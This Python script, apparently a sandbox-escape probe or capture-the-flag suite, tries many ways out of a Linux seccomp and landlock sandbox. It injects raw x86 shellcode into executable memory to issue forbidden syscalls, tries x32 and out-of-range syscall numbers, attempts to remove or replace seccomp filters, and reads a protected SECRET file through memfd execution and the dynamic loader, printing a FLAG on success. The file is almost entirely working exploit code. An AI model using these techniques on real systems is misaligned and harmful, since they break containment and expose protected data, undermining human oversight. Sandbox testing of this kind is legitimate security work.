"""Code of one's own, below every library: the walls are the kernel's, not Python's."""

# %% a page of code that opens the secret | bites
if X86:
    page = mmap.mmap(-1, 4096, prot=7)
    path = SECRET.encode() + b"\0"
    code = bytes.fromhex("4889fe48c7c79cffffff31d24531d2b8010100000f05c3")
    page.write(code)
    call = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_char_p)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    handle = call(path)
    if handle >= 0:
        print(os.read(handle, 1000))

# %% the 32-bit door
if X86:
    page = mmap.mmap(-1, 4096, prot=7, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40)
    # mov eax, 359 (socket); mov ebx, 2; mov ecx, 1; xor edx, edx; int 0x80; ret
    page.write(bytes.fromhex("53b867010000bb02000000b90100000031d2cd805bc3"))
    call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    if call() >= 0:
        print(FLAG)

# %% the 32-bit door to getpid | bites
if X86:
    page = mmap.mmap(-1, 4096, prot=7)
    page.write(bytes.fromhex("53b814000000cd805bc3"))
    call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    if call() == os.getpid():
        print(FLAG)
else:
    print(FLAG if False else "")

# %% the x32 door
if X86:
    for number in (41, 0, 520, 39, 272, 101):
        ctypes.set_errno(0)
        if syscall(number | 0x40000000, 2, 1, 0) >= 0:
            print(FLAG, number)

# %% a system call in the middle of an instruction
if X86:
    page = mmap.mmap(-1, 4096, prot=7)
    # jmp over; hidden: syscall; ret   socket(2, 1, 0)
    page.write(bytes.fromhex("bf02000000be0100000031d2b829000000eb0248b80f05c3"))
    call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    if call() >= 0:
        print(FLAG)

# %% numbers past the end
for number in (*range(548, 560), 1000, 0xFFFFFFFF, 0x7FFFFFFF, -1, 1 << 32 | 41, 1 << 33 | 272):
    ctypes.set_errno(0)
    if syscall(number, 2, 1, 0) >= 0:
        print(FLAG, number)

# %% take the filter off
for option, value in ((22, 0), (38, 0), (4, 1), (24, 0), (36, 0), (8, 1), (28, 0x1F), (47, 2)):
    print(libc.prctl(option, value, 0, 0, 0))
for operation in (0, 1, 2, 3):
    syscall(317, operation, 0, 0)
if "Seccomp:\t2" not in open("/proc/self/status").read() or syscall(41, 2, 1, 0) >= 0:
    print(FLAG)

# %% a kinder filter over the strict one
allow = struct.pack("=HBBI", 0x06, 0, 0, 0x7FFF0000)
code = ctypes.create_string_buffer(allow)
fprog = struct.pack("@HP", 1, ctypes.addressof(code))
print(syscall(317, 1, 0, fprog), libc.prctl(22, 2, fprog, 0, 0))
if syscall(41, 2, 1, 0) >= 0:
    print(FLAG)

# %% a filter that hands our calls to somebody
notify = struct.pack("=HBBI", 0x06, 0, 0, 0x7FC00000)
code = ctypes.create_string_buffer(notify)
pid = os.fork()
if pid == 0:
    ours, theirs = socket.socketpair()
    handle = syscall(317, 1, 8, struct.pack("@HP", 1, ctypes.addressof(code)))
    os._exit(0)
time.sleep(0.1)
os.kill(pid, 9)

# %% a kinder landlock
ruleset = syscall(444, struct.pack("=QQQ", 1, 0, 0), 8, 0)
root = os.open("/", os.O_PATH)
if ruleset >= 0:
    syscall(445, ruleset, 1, struct.pack("=Qi", 1, root), 0)
    syscall(446, ruleset, 0)
tried(read, SECRET)
tried(lambda: open(TARGET, "a").write("x"))

# %% another thread without the filter
found = []
def probe():
    found.append(syscall(41, 2, 1, 0))
threads = [threading.Thread(target=probe) for _ in range(8)]
[t.start() for t in threads]
[t.join() for t in threads]
if any(each >= 0 for each in found):
    print(FLAG)

# %% a child by vfork, spawn and exec
code = "import ctypes; l=ctypes.CDLL(None); print('%s' if l.socket(2,1,0) >= 0 else '-')" % FLAG
tried(lambda: print(subprocess.run([sys.executable, "-I", "-S", "-c", code], capture_output=True, text=True, timeout=5).stdout))
tried(lambda: os.waitpid(os.posix_spawn(sys.executable, [sys.executable, "-I", "-S", "-c", code], {}), 0))

# %% a program in memory | bites
handle = os.memfd_create("program")
with open("/bin/cat", "rb") as source:
    os.write(handle, source.read())
pid = os.fork()
if pid == 0:
    os.execve(handle, ["cat", SECRET], {})
os.waitpid(pid, 0)

# %% through the loader | bites
for loader in glob.glob("/lib*/ld-linux*"):
    tried(lambda: print(subprocess.run([loader, "/bin/cat", SECRET], capture_output=True, timeout=2)))
